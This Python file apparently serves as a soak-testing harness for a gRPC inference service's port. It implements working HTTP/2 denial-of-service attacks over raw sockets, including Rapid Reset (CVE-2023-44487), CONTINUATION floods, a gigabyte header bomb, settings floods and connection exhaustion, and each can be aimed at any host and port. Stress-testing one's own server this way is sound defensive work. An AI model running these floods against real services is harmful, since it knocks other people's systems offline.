"""Clients that do not keep to the rules, on raw sockets: for tests and soaks of a port.

Every attack is a function of (host, port, seconds, ...) that works until the seconds are over and returns counts. A
host "unix:/path" is a Unix socket; its port is of no account. `address_of` takes "host:port" and "unix:/path" apart.
An attack ends early only by its time: a refused or closed connection is counted, and another is opened.
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
CONNECT_PATIENCE_S = 2
GENERATE = "/tutti.v1.Inference/Generate"
CONNECT = "/tutti.peer.v1.Peer/Connect"


def address_of(address):
    """(host, port) of "host:port" or "unix:/path"."""
    if address.startswith("unix:"):
        return address, 0
    host, port = address.rsplit(":", 1)
    return host.strip("[]"), int(port)


def connect(host, port):
    """A connected socket, or None."""
    try:
        if host.startswith("unix:"):
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(CONNECT_PATIENCE_S)
            sock.connect(host[len("unix:"):])
        else:
            sock = socket.create_connection((host, port), CONNECT_PATIENCE_S)
        return sock
    except OSError:
        return None


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_length(value, bits):
    """A length in HPACK: `bits` bits of the first byte, then seven each."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    encoded = bytearray([limit])
    value -= limit
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    encoded.append(value)
    return bytes(encoded)


def header(name, value):
    """A literal header without indexing."""
    return b"\0" + hpack_length(len(name), 7) + name.encode() + hpack_length(len(value), 7) + value.encode()


def call_headers(method):
    """The headers that open a gRPC call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"), ("te", "trailers"),
              ("content-type", "application/grpc")]
    return b"".join(header(name, value) for name, value in fields)


def is_open(sock):
    """False when the peer has closed it."""
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def hold(connections, until):
    """Keeps connections until a time; those still open then."""
    while time.monotonic() < until:
        time.sleep(min(0.2, max(0.0, until - time.monotonic())))
    return sum(is_open(sock) for sock in connections)


def idle_connections(host, port, seconds, connections=2000, first=b""):
    """Opens connections, sends `first` on each and nothing more; closes all at the end."""
    until = time.monotonic() + seconds
    sockets, failed = [], 0
    while len(sockets) + failed < connections and time.monotonic() < until:
        sock = connect(host, port)
        if sock is None:
            failed += 1
            continue
        sockets.append(sock)
        try:
            sock.sendall(first)
        except OSError:
            pass
    still_open = hold(sockets, until)
    for sock in sockets:
        sock.close()
    return {"opened": len(sockets), "not_opened": failed, "open_at_the_end": still_open}


def greeting_connections(host, port, seconds, connections=2000):
    """As idle_connections, but each speaks HTTP/2 and makes no call."""
    return idle_connections(host, port, seconds, connections, PREFACE + frame(SETTINGS, 0, 0))


class Flooder:
    """One connection after another into which as much is sent as it takes."""

    def __init__(self, host, port, seconds):
        self.host, self.port = host, port
        self.until = time.monotonic() + seconds
        self.sock = None
        self.counts = {"connections": 0, "not_opened": 0, "bytes": 0}

    def over(self):
        return time.monotonic() >= self.until

    def open(self):
        """A new connection with its preface sent; False when there is none."""
        self.close()
        self.sock = connect(self.host, self.port)
        if self.sock is None:
            self.counts["not_opened"] += 1
            time.sleep(0.05)
            return False
        self.counts["connections"] += 1
        return self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """False when the connection is closed, or the time over."""
        view = memoryview(data)
        while view:
            if self.over():
                return False
            self.sock.settimeout(0.02)
            try:
                view = view[self.sock.send(view):]
            except socket.timeout:
                if not is_open(self.sock):
                    return False
            except OSError:
                return False
        self.counts["bytes"] += len(data)
        # What comes back is thrown away, so that the peer's window never fills.
        return is_open(self.sock)

    def close(self):
        if self.sock is not None:
            self.sock.close()
            self.sock = None


def rapid_reset(host, port, seconds, method=GENERATE, streams_per_write=100):
    """Opens calls and resets them at once (CVE-2023-44487)."""
    flooder = Flooder(host, port, seconds)
    flooder.counts["streams"] = 0
    headers = call_headers(method)
    while not flooder.over():
        if not flooder.open():
            continue
        stream, works = 1, True
        while works and stream < 2**31 - 2 * streams_per_write:
            batch = bytearray()
            for _ in range(streams_per_write):
                batch += frame(HEADERS, END_HEADERS, stream, headers)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            works = flooder.send(bytes(batch))
            flooder.counts["streams"] += streams_per_write if works else 0
    flooder.close()
    return flooder.counts


def continuation_flood(host, port, seconds, method=GENERATE, name_bytes=16):
    """Headers that never end, in many CONTINUATION frames of many small fields."""
    flooder = Flooder(host, port, seconds)
    flooder.counts["frames"] = 0
    fields = b"".join(header("x%0*d" % (name_bytes - 1, i), "y") for i in range(600))
    more = frame(CONTINUATION, 0, 1, fields[:16384])
    while not flooder.over():
        if not flooder.open() or not flooder.send(frame(HEADERS, 0, 1, call_headers(method))):
            continue
        while flooder.send(more):
            flooder.counts["frames"] += 1
    flooder.close()
    return flooder.counts


def header_bomb(host, port, seconds, method=GENERATE, announced=1 << 30, first=b"", stream=1):
    """One header value of a gigabyte, sent in pieces (CVE-2023-33953), after the frames `first`."""
    flooder = Flooder(host, port, seconds)
    flooder.counts["frames"] = 0
    begin = call_headers(method) + b"\0" + hpack_length(1, 7) + b"x" + hpack_length(announced, 7)
    more = frame(CONTINUATION, 0, stream, b"a" * 16384)
    while not flooder.over():
        if not flooder.open() or not flooder.send(first + frame(HEADERS, 0, stream, begin)):
            continue
        while flooder.send(more):
            flooder.counts["frames"] += 1
    flooder.close()
    return flooder.counts


def hidden_bomb(host, port, seconds, method=GENERATE):
    """A header bomb on a connection that has announced a message of 8 MB, which never comes."""
    call = frame(HEADERS, END_HEADERS, 1, call_headers(method)) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 8 << 20))
    return header_bomb(host, port, seconds, method, first=call, stream=3)


def settings_flood(host, port, seconds):
    """Settings, each of which wants to be acknowledged."""
    flooder = Flooder(host, port, seconds)
    more = frame(SETTINGS, 0, 0) * 1000
    while not flooder.over():
        if flooder.open():
            while flooder.send(more):
                pass
    flooder.close()
    return flooder.counts


def paced_junk(host, port, seconds, resets, method=GENERATE):
    """Frames that mean nothing, with a pause after every 64 KiB of them so that the socket runs empty, beside calls without a message:
    a new one each second, or (resets) one that is reset after 256 KiB."""
    flooder = Flooder(host, port, seconds)
    burst = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 4700
    headers = call_headers(method)
    while not flooder.over():
        works, stream, began = flooder.open(), 1, 0.0
        while works:
            if resets or time.monotonic() > began + 1:
                works, began = flooder.send(frame(HEADERS, END_HEADERS, stream, headers)), time.monotonic()
                stream += 2
            for _ in range(4):
                works = works and flooder.send(burst)
                time.sleep(0.01)
            if resets:
                works = works and flooder.send(frame(RST_STREAM, 0, stream - 2, struct.pack(">I", CANCEL)))
    flooder.close()
    return flooder.counts


def silent_calls(host, port, seconds):
    """Of paced_junk, the first."""
    return paced_junk(host, port, seconds, resets=False)


def explained_resets(host, port, seconds):
    """Of paced_junk, the second."""
    return paced_junk(host, port, seconds, resets=True)


class Windows:
    """How much a receiver lets through, of stream 1 and of the connection: who sends more is cut off."""

    def __init__(self):
        self.left = {0: 65535, 1: 65535}
        self.initial = 65535
        self.bytes = b""

    def read(self, sock):
        """Takes what has come; False when the connection is closed."""
        sock.setblocking(False)
        try:
            while True:
                data = sock.recv(1 << 16)
                if not data:
                    return False
                self.bytes += data
        except BlockingIOError:
            self.parse()
            return True
        except OSError:
            return False

    def parse(self):
        while len(self.bytes) >= 9:
            length = int.from_bytes(self.bytes[:3], "big")
            if len(self.bytes) < 9 + length:
                return
            kind, stream = self.bytes[3], int.from_bytes(self.bytes[5:9], "big")
            body, self.bytes = self.bytes[9:9 + length], self.bytes[9 + length:]
            if kind == WINDOW_UPDATE and stream in self.left:
                self.left[stream] += int.from_bytes(body, "big")
            for at in range(0, length - 5, 6) if kind == SETTINGS else ():
                if body[at:at + 2] == b"\0\4":
                    value = int.from_bytes(body[at + 2:at + 6], "big")
                    self.left[1] += value - self.initial
                    self.initial = value


def frame_flood(host, port, seconds, message=b"\x08\x01", method=CONNECT):
    """Messages on a peer's port as fast as it reads them, without hello."""
    flooder = Flooder(host, port, seconds)
    flooder.counts["messages"] = 0
    one = b"\0" + struct.pack(">I", len(message)) + message
    many = max(1, 16384 // len(one))
    more = frame(DATA, 0, 1, one * many)
    while not flooder.over():
        opening = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, call_headers(method))
        flooder.close()
        flooder.sock = connect(host, port)
        if flooder.sock is None:
            flooder.counts["not_opened"] += 1
            time.sleep(0.05)
            continue
        flooder.counts["connections"] += 1
        windows = Windows()
        try:
            flooder.sock.sendall(opening)
            while not flooder.over() and windows.read(flooder.sock):
                if min(windows.left.values()) < len(more):
                    time.sleep(0.001)
                    continue
                flooder.sock.settimeout(0.2)
                flooder.sock.sendall(more)
                windows.left = {stream: left - len(one) * many for stream, left in windows.left.items()}
                flooder.counts["messages"] += many
                flooder.counts["bytes"] += len(more)
        except OSError:
            pass
    flooder.close()
    return flooder.counts


ALL = {"idle": idle_connections, "greeting": greeting_connections, "rapid_reset": rapid_reset,
       "continuation": continuation_flood, "header_bomb": header_bomb, "hidden_bomb": hidden_bomb,
       "settings": settings_flood, "frame_flood": frame_flood, "silent_calls": silent_calls, "explained_resets": explained_resets}


if __name__ == "__main__":  # NAME ADDRESS SECONDS, as a process of its own
    print(ALL[sys.argv[1]](*address_of(sys.argv[2]), float(sys.argv[3])))
